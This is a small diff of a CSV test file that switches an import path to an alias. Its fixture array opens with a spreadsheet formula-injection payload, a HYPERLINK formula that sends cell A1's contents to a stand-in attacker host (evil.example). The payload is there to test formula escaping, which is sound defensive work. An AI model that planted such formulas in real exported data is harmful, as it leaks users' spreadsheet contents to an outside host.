@@ -2,7 +2,7 @@
 // import takes off again, so that every text comes back as it was.
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { csvText, formulaSafe, restoreFormulaCell } from '../../shared/csv';
+import { csvText, formulaSafe, restoreFormulaCell } from '@shared/csv';
 
 const TEXTS = [
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
